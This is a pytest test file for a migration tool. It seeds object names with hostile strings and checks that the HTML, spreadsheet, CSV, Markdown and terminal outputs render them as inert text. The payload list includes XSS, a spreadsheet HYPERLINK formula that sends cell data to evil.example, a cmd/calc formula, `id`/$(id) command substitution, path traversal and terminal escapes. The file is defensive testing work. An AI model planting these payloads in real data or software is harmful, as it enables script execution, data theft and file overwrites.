"""Names that strangers gave their things, in everything that is printed or written: text, and nothing but text."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import zipfile
from dataclasses import replace

import openpyxl
import pytest
import yaml
from lxml import html

from kit.attacks import FULL, plan_tree, share, small_world, tell
from kit.confined import Confined
from migrate.sandbox.server import environment, serve
from migrate.text import INVISIBLE

pytestmark = [pytest.mark.attack, pytest.mark.timeout(3600)]

NAMES = {
    "script": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "closing": "--></style></script></textarea></title><svg onload=alert(1)>",
    "attribute": '" onmouseover="alert(1)" x=\'',
    "template": "{{ 7*7 }}{% raw %}${7*7}<%= 7 %>",
    "address": "javascript:alert(1)",
    "escape": "a\x1b[2J\x1b]0;t\x07\x9b31m",
    "carriage": "a\rb\nc\td\x0be\x0c\x85",
    "direction": "a\u202egnp.exe\u2066\u200f\u2069",
    "invisible": "\u200b\u2060\ufeff\U000e0041\u3164",
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1)",
    "tab and formula": "\t=1+1",
    "wide formula": "\uff1d1+1",
    "array formula": "{=1+1}",
    "cell address": "external:'x'!A1",
    "mail": "mailto:a@evil.example",
    "table": "a | b | c\n|---|---|\n| x",
    "link": "[x](https://evil.example) ![y](https://evil.example/p.png)",
    "autolink": "<https://evil.example> https://evil.example",
    "heading": "# H\n* x\n1. y\n> z",
    "fence": "```\n~~~",
    "quotes": "'\"`\\",
    "comma": 'a,b;c"d\n"e',
    "zero": "a\x00b",
    "long": "x" * 10_000,
    "long and wide": "\U0001f388" * 4_000,
    "combining": "a" + "\u0301" * 3_000,
    "up": "../../../../../../tmp/odd",
    "absolute": "/etc/odd",
    "drive": "C:\\odd",
    "device": "CON.txt",
    "dots": "..",
    "stream": "a.json:odd",
    "spaces": "   ",
    "percent": "%2e%2e%2f%00%n%s",
    "python": "{0.__class__}{x!r}%(x)s",
    "environment": "${env.HOME}$HOME`id`$(id)",
    "yaml": "!!python/object:x {a: *b}",
    "json": '"}, {"x": "',
    "half a character": "a\ud800b",
    "no character": "a\uffff\ufffe",
}
OURS = re.compile(r"#|https?://127\.0\.0\.1[:/]|https://app\.sigmacomputing\.com/|data:image/|internal:|report\.|\Z")
"""Where links of reports may lead."""
CODE = re.compile(r"(?<!`)(`+)(?!`).+?(?<!`)\1(?!`)")
"""A code span of CommonMark on one line: between runs of backticks of one length, in which nothing is markup."""
COMMANDS = (
    ("plan", "plan.yaml", "-o", "saved.json", "--log", "log.jsonl", "--verbose"),
    ("plan", "plan.yaml", "--output", "json"),
    ("assess", "plan.yaml"),
    ("export", "plan.yaml", "-o", "bundle"),
    ("export", "plan.yaml", "-o", "bundle-yaml", "--format", "yaml"),
    ("apply", "plan.yaml", "--yes", "--log", "log.jsonl", "--verbose"),
    ("apply", "plan.yaml", "--yes", "--output", "json"),
    ("status", "plan.yaml"),
    ("report", "last"),
    ("drift", "plan.yaml"),
    ("verify", "plan.yaml"),
    ("undo", "last", "--dry-run"),
    ("init", "made.yaml", "--source", "north", "--target", "group"),
    ("validate", "made.yaml"),
)


def named(world, number):
    """A world in which every name is that of a document, and this one that of everything else."""
    names = tuple(NAMES.values())
    org, one = world.orgs["north"], names[number]
    inode = {inode.name: inode for inode in org.inodes.values()}
    for at, name in enumerate(names):
        notes = inode["Notes"]
        copy = replace(notes, id=f"{at:08d}-aaaa-4aaa-8aaa-aaaaaaaaaaaa", name=name, description=names[at - number])
        org.inodes[copy.id] = copy

    inode["Shared"].name = one
    for things in (org.connections, org.teams, org.plugins):
        next(iter(things.values())).name = one
    person = next(iter(org.members.values()))
    person.first_name = person.last_name = one
    element = inode["Sales"].versions[-1].body["elements"][0]
    element["name"] = element["columns"][0]["name"] = one


DOING = ("script", "img", "iframe", "object", "embed", "link", "base", "form", "meta")


def skeleton(page):
    """The elements of a page that can do something, and every attribute that could run or fetch."""
    tree = html.document_fromstring(page)
    odd = []
    for element in tree.iter():
        for attribute, value in element.attrib.items():
            fetches = attribute in ("href", "src", "action", "formaction", "xlink:href", "srcset", "data")
            if attribute.startswith("on") or (fetches and not re.match(OURS, value)):
                odd.append(f"{element.tag} {attribute}={value[:60]}")
    return odd, sorted(element.tag for element in tree.iter() if element.tag in DOING)


def wrong_in_page(page, benign):
    odd, doing = skeleton(page)
    if odd:
        return f"{odd[:3]}"
    return "" if doing == benign else f"{doing} instead of {benign}"


def wrong_in_cells(rows):
    """Cells that a spreadsheet would run."""
    found = [cell for row in rows for cell in row if str(cell or "").lstrip()[:1] in tuple("=+-@＝＋－＠") and cell]
    return f"runs: {found[:2]!r}" if [cell for cell in found if not re.fullmatch(r"-?[\d.]+", str(cell))] else ""


def wrong_in_workbook(content):
    book = openpyxl.load_workbook(io.BytesIO(content))
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                link = cell.hyperlink
                if link is not None and link.target and not OURS.match(link.target):
                    return f"links to {link.target[:80]}"
                if cell.data_type == "f" and not re.match(r"=(SUM|COUNT|HYPERLINK\(\"?#|SUBTOTAL)", str(cell.value)):
                    return f"formula {cell.value!r:.80}"
    return ""


def wrong_in_note(text):
    """What a reader of Markdown would take for markup of ours."""
    for whole in text.splitlines():
        line = CODE.sub("", whole)
        if re.search(r"(?<!\\)<(?!br>|/?(details|summary)>|!-- -->)[a-z!/]", line, re.IGNORECASE):
            return f"markup {line[:200]!r}"
        if any(not OURS.match(there) for there in re.findall(r"(?<!\\)\]\(([^)]*)", line)):
            return f"link {line[:200]!r}"
        if INVISIBLE.search(whole.replace("\t", "")):
            return f"invisible {line[:200]!r}"
    return ""


def wrong_in_file(path, benign):
    """What is wrong with a file that was written."""
    content = path.read_bytes()
    if path.suffix == ".xlsx":
        with zipfile.ZipFile(io.BytesIO(content)) as parts:
            if parts.testzip():
                return "damaged"
        return wrong_in_workbook(content)
    text = content.decode("utf-8")
    if path.suffix == ".html":
        return wrong_in_page(text, benign)
    if path.suffix == ".csv":
        rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))
        return wrong_in_cells(rows) or ("" if len({len(row) for row in rows if row}) <= 1 else "torn rows")
    if path.suffix == ".md":
        return wrong_in_note(text)
    if path.suffix == ".json":
        json.loads(text)
    elif path.suffix == ".jsonl":
        [json.loads(line) for line in text.split("\n") if line]
    elif path.suffix == ".yaml":
        yaml.safe_load(text) if path.name != "made.yaml" else None
    return ""


def wrong_at(folder, benign):
    """What is wrong with what was written into a folder."""
    for path in sorted(folder.rglob("*")):
        if path.is_file() and ".sigma-migrate" not in path.parts and path.name != "plan.yaml":
            try:
                why = wrong_in_file(path, benign)
            except Exception as error:  # noqa: BLE001 - whatever a reader stumbles over
                why = f"unreadable: {type(error).__name__}: {str(error)[:200]}"
            if why:
                return f"{path.relative_to(folder)}: {why}"
        if INVISIBLE.search(path.name) or len(os.fsencode(path.name)) > 200 or not path.is_relative_to(folder):
            return f"named {path.name[:80]!r}"
    return ""


def told_wrong(done, command):
    """What is wrong with what a command told."""
    if done.code in (70, 71) or done.code < 0 or "Traceback" in done.err:
        return f"exit {done.code}: {done.err[-300:]}"
    if "json" in command and done.out:
        json.loads(done.out)
    text = done.err + ("" if "json" in command else done.out)
    moved = INVISIBLE.search(text.replace("\n", "").replace("\t", ""))
    return f"moves the cursor: {text[max(0, moved.start() - 40) :][:80]!r}" if moved else ""


def tried(folder, world, benign, commands=COMMANDS):
    """What got through of the names of a world, or nothing."""
    folder.mkdir()
    with serve(world) as running:
        tree = plan_tree(running, report={"formats": ["html", "xlsx", "csv", "json", "md"]})
        (folder / "plan.yaml").write_text(yaml.safe_dump(tree), encoding="utf-8")
        confined = Confined(environment(running))
        try:
            for command in commands:
                done = confined.run(folder, *command)
                why = told_wrong(done, command)
                if why:
                    return f"{' '.join(command)}: {why}"
        finally:
            confined.close()
    if not list(folder.glob("reports/*/report.html")):
        return "no report was written"
    return wrong_at(folder, benign)


@pytest.fixture(scope="module")
def benign(tmp_path_factory):
    """The elements of a report's page that can do something, where all names are ordinary."""
    folder = tmp_path_factory.mktemp("names") / "benign"
    assert tried(folder, small_world(), [], [("apply", "plan.yaml", "--yes")]).startswith("reports")
    page = min(folder.glob("reports/*/report.html"))
    odd, doing = skeleton(page.read_text("utf-8"))
    assert not odd
    return doing


@pytest.mark.parametrize("part", range(2 if FULL else 1))
def test_no_name_is_more_than_text(benign, tmp_path, record_property, part):
    cases = share(range(len(NAMES)), 1)[part::2]
    through = []
    for number in cases:
        world = small_world()
        named(world, number)
        if why := tried(tmp_path / str(number), world, benign):
            through.append(f"{list(NAMES)[number]}: {why}")
    tell(record_property, "hostile names", len(cases) * len(NAMES), through)
